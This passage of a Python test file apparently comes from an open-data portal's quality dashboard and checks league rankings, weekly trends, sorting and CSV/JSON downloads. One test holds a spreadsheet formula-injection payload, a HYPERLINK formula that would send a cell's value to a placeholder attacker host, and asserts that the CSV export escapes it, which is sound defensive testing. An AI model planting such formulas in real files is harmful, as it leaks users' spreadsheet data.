    assert week["assessments"] == week["datasets"] + 1
    assert week["average_stars"] == round(doc["league"]["average_stars"], 2)
    assert week["average_score"] == round(doc["league"]["average_score"], 1)


def test_the_leagues_own_trend_and_change_count_each_dataset_once_too(client, catalog, runtime, monkeypatch):
    """The dashboard's trend counted a dataset's last assessment of a week, but the league row's own trend (in the
    API, `opendata quality publishers --json`, and behind "Change since last week") still averaged every
    assessment: in the demo, a dataset re-assessed after its broken link was fixed made the API say 69.6 for the
    week where the dashboard and the league's average said 77.3."""
    again = _latest(runtime)["bus-stops"]
    with runtime.sessionmaker() as session:
        session.add(Assessment(**{c: getattr(again, c) for c in (
            "dataset_id", "rule_version", "metadata_points", "metadata_rating", "subscores", "data", "distributions",
            "findings")}, assessed_at=NOW - dt.timedelta(hours=1), stars=0, score=1))  # earlier the same week, worse
        publisher = session.get(Dataset, again.dataset_id).publisher.slug
        session.commit()
    doc = _json(client, f"/dashboard/publisher/{publisher}.json?lang=en")
    week = doc["trends"][-1]
    api = _json(client, f"/api/v1/publishers/{publisher}/quality")
    trend = api["trend"]
    assert trend[-1]["period"] == week["period"] == "2026-11-23"
    assert trend[-1]["assessments"] == week["assessments"]
    assert (trend[-1]["average_stars"], trend[-1]["average_score"]) == (week["average_stars"], week["average_score"])
    assert doc["league"]["change"] == api["change"]


def test_change_since_last_week_is_the_average_now_less_at_the_end_of_last_week(client, catalog, runtime,
                                                                              monkeypatch):
    """"Change since last week" subtracted the averages of the last two weeks with assessments, each over the
    datasets assessed that week: the transport bureau's one dataset re-assessed on a Monday (bus stops, fixed to
    100) made the bureau's change +27.8, that dataset's score less last week's average, where the average had
    moved by +1.9; and a week later, nothing assessed, the league still said +27.8 "since last week"."""
    import app.assessment

    monkeypatch.setattr(app.assessment, "utcnow", lambda: NOW + dt.timedelta(days=9))  # Wednesday, the next week
    before = {r["publisher"]: r for r in _json(client, "/dashboard/league.json")["rows"]}
    assert before["jh-transport"]["change"] == 0.0  # nothing assessed this week yet
    again = _latest(runtime)["bus-stops"]
    with runtime.sessionmaker() as session:
        session.add(Assessment(**{c: getattr(again, c) for c in (
            "dataset_id", "rule_version", "metadata_points", "metadata_rating", "subscores", "data", "distributions",
            "findings")}, assessed_at=NOW + dt.timedelta(days=7, hours=1), stars=5, score=100))
        session.commit()
    scores = [a.score for slug, a in _latest(runtime).items() if slug in _own(runtime, "jh-transport")]
    rows = {r["publisher"]: r for r in _json(client, "/dashboard/league.json")["rows"]}
    transport = rows["jh-transport"]
    assert transport["average_score"] == round(sum(scores) / len(scores), 1)
    moved = round(transport["average_score"] - before["jh-transport"]["average_score"], 1)
    assert moved > 0 and transport["change"] == moved
    assert rows["jh-stats"]["change"] == 0.0
    api = _json(client, "/api/v1/publishers/jh-transport/quality")
    assert api["change"] == moved
    html = _html(client, "/dashboard?lang=en")
    cells = next(c for a, c in Tables(html).tables["league-table"] if a["data-publisher"] == "jh-transport")
    assert cells[10][0]["data-value"] == str(moved)
    # a week on, nothing assessed since: no change since last week, not the same +1.9 again
    monkeypatch.setattr(app.assessment, "utcnow", lambda: NOW + dt.timedelta(days=16))
    rows = {r["publisher"]: r for r in _json(client, "/dashboard/league.json")["rows"]}
    assert rows["jh-transport"]["change"] == 0.0


def _own(runtime, publisher: str) -> set[str]:
    with runtime.sessionmaker() as session:
        return {ds.slug for ds in session.scalars(select(Dataset)) if ds.publisher and ds.publisher.slug == publisher}


def test_a_dashboard_csv_keeps_a_name_from_running_as_a_spreadsheet_formula(app):
    """The dashboard's CSVs carry a BOM for Excel, and wrote a harvested publisher name such as
    =HYPERLINK(...) as it was: Excel or WPS ran it. Text starting like a formula is text; numbers stay numbers."""
    from app.web.dashboard import csv_response

    with app.test_request_context():
        resp = csv_response("league", ["name", "change"],
                            [{"name": '=HYPERLINK("http://evil.example/?"&A1,"x")', "change": -3},
                             {"name": "-1 Department", "change": 2.5}, {"name": "Transport", "change": None}])
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows == [["name", "change"], ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "-3"],
                    ["'-1 Department", "2.5"], ["Transport", ""]]


def test_departments_with_the_same_figures_share_a_rank(client, catalog, runtime):
    """The statistics bureau (84.0 points, 3.0 stars) and an archives bureau with the same figures were ranked 1 and
    2, by the alphabet of their slugs: an official reading the table told the mayor one did better."""
    stats = next(r for r in _json(client, "/dashboard/league.json")["rows"] if r["publisher"] == "jh-stats")
    own = _own(runtime, "jh-stats")
    model = next(a for slug, a in _latest(runtime).items() if slug in own)
    with runtime.sessionmaker() as session:
        rec = new_record(slug="archives-catalogue", title={"zh": "档案目录", "en": "Archives catalogue"},
                         license="CC-BY-4.0", publisher={"slug": "jh-archives", "name": {"zh": "京海市档案局",
                                                                                         "en": "Jinghai Archives"}},
                         distributions=[new_distribution(format="CSV", download_url="http://127.0.0.1:9/a.csv")])
        ds, _ = save_record(session, rec)
        session.flush()
        session.add(Assessment(**{c: getattr(model, c) for c in (
            "rule_version", "metadata_points", "metadata_rating", "subscores", "data", "distributions", "findings")},
            dataset_id=ds.id, assessed_at=NOW, stars=int(stats["average_stars"]), score=int(stats["average_score"])))
        session.commit()
    rows = _json(client, "/dashboard/league.json")["rows"]
    ranks = {r["publisher"]: r["rank"] for r in rows}
    assert stats["average_score"] == int(stats["average_score"]) and stats["average_stars"] == 3.0
    assert ranks["jh-archives"] == ranks["jh-stats"] == stats["rank"]
    below = [r["rank"] for r in rows if r["rank"] is not None and r["publisher"] not in ("jh-archives", "jh-stats")]
    assert min(below) == stats["rank"] + 2
    html = _html(client, "/dashboard?lang=en")
    league = Tables(html).tables["league-table"]
    assert {a["data-publisher"]: c[0][1] for a, c in league if a["data-publisher"] in ranks}["jh-archives"] == \
        str(stats["rank"])
    assert [r["rank"] for r in _csv(client, "/dashboard/league.csv") if r["publisher"] in ("jh-archives", "jh-stats")] \
        == [str(stats["rank"])] * 2


def test_the_league_table_sorts_both_ways_and_by_change_and_downloads(client, catalog):
    """An official asks for the departments doing worst: each sort reverses (?order=asc|desc, the header and the
    "Sorted by" line link to the other way round), a department with no figure stays last either way, the downloads
    follow the page, and change since last week and downloads sort too (they could not). The header of the column
    in force stays text (a link on its highlighted background fails the contrast check)."""
    for sort, column in (("score", 5), ("rank", 0), ("datasets", 2), ("downloads", 11), ("change", 10)):
        default = _html(client, f"/dashboard?sort={sort}&lang=en")
        for order, descending in (("asc", False), ("desc", True)):
            html = _html(client, f"/dashboard?sort={sort}&order={order}&lang=en")
            league = Tables(html).tables["league-table"]
            raw = [cells[column][0].get("data-value", cells[column][1]) for _a, cells in league]
            known = [v for v in raw if v not in ("", "–", None)]
            assert raw[:len(known)] == known, (sort, order, raw)  # no figure: last
            values = [float(v.replace(",", "").replace("+", "")) for v in known]
            assert values == sorted(values, reverse=descending), (sort, order, values)
            assert f'aria-sort="{"descending" if descending else "ascending"}"' in html
            flip = "asc" if descending else "desc"
            assert f"sort={sort}&amp;order={flip}#h-league" in html, (sort, order)
            order_seen = [attrs["data-publisher"] for attrs, _c in league]
            rows = _csv(client, f"/dashboard/league.csv?sort={sort}&order={order}&lang=en")
            assert [r["publisher"] for r in rows] == order_seen
            assert [r["publisher"] for r in _json(client, f"/dashboard/league.json?sort={sort}&order={order}")[
                "rows"]] == order_seen
        # the order in force is said as text, the link beside it reverses it (it read as the order in force)
        assert ("lowest first" if sort == "rank" else "highest first") + "; <a" in default
        assert ">reverse the order</a>)" in default
    assert "平均得分</strong>（从高到低；<a" in _html(client, "/dashboard?sort=score&lang=zh_CN")  # full-width brackets
    assert ">倒序</a>）" in _html(client, "/dashboard?sort=score&lang=zh_CN")
    assert "Average score</strong> (highest first; <a" in _html(client, "/dashboard?sort=score&lang=en")


def test_average_stars_read_with_two_decimals_as_the_publisher_page_says_them(client, catalog, runtime):
    """The league said 3.0, 2.83 and 2.2 in one column where the publisher page says 2.20: one way everywhere."""
    html = _html(client, "/dashboard?lang=en")
    league = Tables(html).tables["league-table"]
    seen = 0
    for attrs, cells in league:
        value = cells[3][1]
        if value == "–":
            continue
        assert re.fullmatch(r"\d\.\d\d", value), (attrs["data-publisher"], value)
        page = _html(client, f"/publisher/{attrs['data-publisher']}?lang=en")
        assert f'<strong id="publisher-average">{value}</strong>' in page
        drill = _html(client, f"/dashboard/publisher/{attrs['data-publisher']}?lang=en")
        assert f"Average stars: {value}" in unescape(re.sub(r"<[^>]+>", "", drill))
        seen += 1
    assert seen >= 3
    # the command line's league too (it printed 3.0 and 2.83 in one column)
    from click.testing import CliRunner

    from app.cli import main

    env = {"OPENDATA_DATABASE_URL": runtime.settings["DATABASE_URL"],
           "OPENDATA_INSTANCE_DIR": runtime.settings["INSTANCE_DIR"]}
    lines = CliRunner().invoke(main, ["--lang", "en", "quality", "publishers"], env=env).output.splitlines()[1:]
    said = {line.split()[1]: line.split()[3] for line in lines}
    assert {v for v in said.values() if v != "-"} and all(re.fullmatch(r"\d\.\d\d|-", v) for v in said.values()), lines
    for attrs, cells in league:
        assert said[attrs["data-publisher"]] == cells[3][1].replace("–", "-")


def test_fix_first_says_when_the_page_lists_only_the_first_and_its_downloads_give_all(client, catalog, runtime):
    """The page listed 20 datasets to fix and said nothing of the rest; its CSV and JSON stopped at 20 too."""
    with runtime.sessionmaker() as session:
        ids = []
        for i in range(22):
            ds, _ = save_record(session, new_record(slug=f"undescribed-{i}", title={"en": f"Undescribed {i}"},
                                                    publisher={"slug": "jh-stats"}))
            ids.append(ds.id)
        session.commit()
    assess_datasets(runtime, ids, now=NOW)
    csv_rows = _csv(client, "/dashboard/fix-first.csv")
    as_json = _json(client, "/dashboard/fix-first.json")
    rows = as_json["rows"] if isinstance(as_json, dict) and "rows" in as_json else as_json
    assert len(csv_rows) == len(rows) > 22
    assert {f"undescribed-{i}" for i in range(22)} <= {r["slug"] for r in csv_rows}
    for lang, said in (("en", f"The first 20 of {len(csv_rows)} datasets to fix"),
                       ("zh_CN", f"待修复的 {len(csv_rows)} 个数据集中的前 20 个")):
        html = _html(client, f"/dashboard?lang={lang}")
        listed = Tables(html).tables["fix-first-table"]
        assert len(listed) == 20
        assert [a["data-slug"] for a, _ in listed] == [r["slug"] for r in csv_rows[:20]]
        assert said in unescape(html)
